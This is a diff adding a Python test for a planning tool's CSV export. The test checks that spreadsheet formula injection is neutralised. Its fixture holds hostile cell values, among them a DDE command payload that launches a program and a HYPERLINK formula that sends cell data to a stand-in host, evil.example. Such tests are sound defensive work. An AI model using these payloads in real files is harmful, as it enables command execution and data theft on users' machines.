@@ -114,3 +114,43 @@ def test_plan_with_errors_is_not_exported(write_plan) -> None:  # type: ignore[n
     })  # fmt: skip
     result = run_fhsplan("export", "--plan", str(folder))
     assert result.returncode == 1 and "fhsplan validate" in result.stderr and result.stdout == ""
+
+
+def test_csv_cells_that_would_run_as_formulas_are_text(write_plan) -> None:  # type: ignore[no-untyped-def]
+    # Issue #10, item 5: a spreadsheet runs a cell starting with = + - @ (or TAB, CR) as a formula.
+    folder = write_plan({
+        "plan.yaml": """\
+            id: p
+            title: P
+            owner: O
+            period: {start: 2023, end: 2024}
+            revisions: [{year: 2023}]
+            current_revision: 2023
+            beneficiaries: [{id: inv, name: invånarna}]
+        """,
+        "areas/01-a.yaml": """\
+            id: a
+            name: "=cmd|' /C calc'!A0"
+            milestones:
+              - id: m
+                title: '=HYPERLINK("https://evil.example?d="&A1,"Klicka")'
+                description: "+1+1"
+                note: "  -2+3"
+                due: 2023
+                effects: [{text: "@SUM(1+1)", beneficiaries: [inv]}]
+                followups: [{revision: 2023, status: started, comment: "\\t=1+1"}]
+              - {id: n, title: Vanlig titel, due: 2024, effects: [{text: Bättre vård, beneficiaries: [inv]}]}
+        """,
+    })  # fmt: skip
+    result = run_fhsplan("export", "--plan", str(folder), "--format", "csv", AS_OF)
+    assert result.returncode == 0, result.stderr
+    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(result.stdout, newline=""))}
+    hostile = rows["m"]
+    assert hostile["title"] == '\'=HYPERLINK("https://evil.example?d="&A1,"Klicka")'
+    assert (hostile["area_name"], hostile["description"], hostile["note"]) == (
+        "'=cmd|' /C calc'!A0", "'+1+1", "'  -2+3",
+    )  # fmt: skip
+    assert (hostile["effects"], hostile["latest_comment"]) == ("'@SUM(1+1) [inv]", "'\t=1+1")
+    assert (rows["n"]["title"], rows["n"]["effects"]) == ("Vanlig titel", "Bättre vård [inv]")
+    formula = tuple("=+-@\t\r")
+    assert [c for r in rows.values() for c in r.values() if c.lstrip().startswith(formula)] == []
